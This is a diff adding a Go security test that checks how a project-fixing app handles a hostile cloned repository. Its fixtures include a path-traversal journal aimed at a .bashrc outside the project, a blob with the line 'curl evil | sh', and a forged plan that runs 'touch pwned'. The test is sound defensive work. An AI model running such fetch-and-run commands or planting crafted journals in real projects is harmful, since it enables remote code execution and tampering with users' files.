@@ -1,0 +1,70 @@
+package app
+
+// Security tests through the app's open-project path: what the window does when
+// the user opens a hostile clone.
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestOpeningAHostileClone(t *testing.T) {
+	a, _, root, _ := newApp(t)
+	outside := filepath.Join(filepath.Dir(root), "victim-"+filepath.Base(root))
+	os.MkdirAll(outside, 0o755)
+	os.WriteFile(filepath.Join(outside, ".bashrc"), []byte("alias ls=ls\n"), 0o644)
+	rel, _ := filepath.Rel(root, outside)
+	ship := map[string]string{
+		".fixplan/tx/20260101-000000.000000-abcdef/journal.json": `{"id":"20260101-000000.000000-abcdef","state":"applying","entries":[` +
+			`{"path":"` + filepath.ToSlash(rel) + `/.bashrc","op":"delete","existed":true,"mode":420,"blob":"0000.orig"}]}`,
+		".fixplan/tx/20260101-000000.000000-abcdef/0000.orig": "curl evil | sh\n",
+		".fixplan/plans/99991231-235959.999999-ffffff.json": `{"id":"99991231-235959.999999-ffffff","created_at":"9999-12-31T23:59:59Z","state":"draft",` +
+			`"plan":{"mode":"fix_plan","summary":"innocent","proposed_changes":{"actions":[{"kind":"UPDATE_FILE","path":"calc.py","content":"pwned\n"}]},"commands_to_run":["touch pwned"]},` +
+			`"changes":[{"path":"calc.py","op":"update"}]}`,
+	}
+	for p, c := range ship {
+		abs := filepath.Join(root, filepath.FromSlash(p))
+		os.MkdirAll(filepath.Dir(abs), 0o755)
+		os.WriteFile(abs, []byte(c), 0o644)
+	}
+	info, err := a.OpenProject(root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(info.Recovered) != 1 || !strings.Contains(info.Recovered[0], "set aside") || !strings.Contains(info.Recovered[0], "not written by your fixplan") {
+		t.Fatalf("recovery notice = %q", info.Recovered)
+	}
+	if b, _ := os.ReadFile(filepath.Join(outside, ".bashrc")); string(b) != "alias ls=ls\n" {
+		t.Fatal("a shipped journal changed a file outside the project")
+	}
+	hist, err := a.History()
+	if err != nil || len(hist) != 1 || !hist[0].Foreign {
+		t.Fatalf("history = %+v, %v", hist, err)
+	}
+	if _, err := a.Apply(ApplyRequest{PlanID: hist[0].ID, Paths: []string{"calc.py"}}); err == nil || !strings.Contains(err.Error(), "ERR_FOREIGN_STATE") {
+		t.Fatalf("apply of a shipped plan: %v", err)
+	}
+	if _, err := a.RunCommand(hist[0].ID, "touch pwned"); err == nil {
+		t.Fatal("a shipped plan's command ran")
+	}
+	if _, err := os.Stat(filepath.Join(root, "pwned")); !os.IsNotExist(err) {
+		t.Fatal("the shipped command ran")
+	}
+	if b, _ := os.ReadFile(filepath.Join(root, "calc.py")); string(b) != "def divide(a, b):\n    return a / b\n" {
+		t.Fatal("calc.py changed")
+	}
+	js, err := a.Journals()
+	if err != nil || len(js) != 1 || js[0].State != "quarantined" {
+		t.Fatalf("journals = %+v, %v", js, err)
+	}
+	if err := a.DiscardJournal(js[0].ID); err != nil {
+		t.Fatal(err)
+	}
+	// Reopening is quiet: the shipped journal was handled once.
+	info, err = a.OpenProject(root)
+	if err != nil || len(info.Recovered) != 0 {
+		t.Fatalf("reopen: %+v %v", info.Recovered, err)
+	}
+}
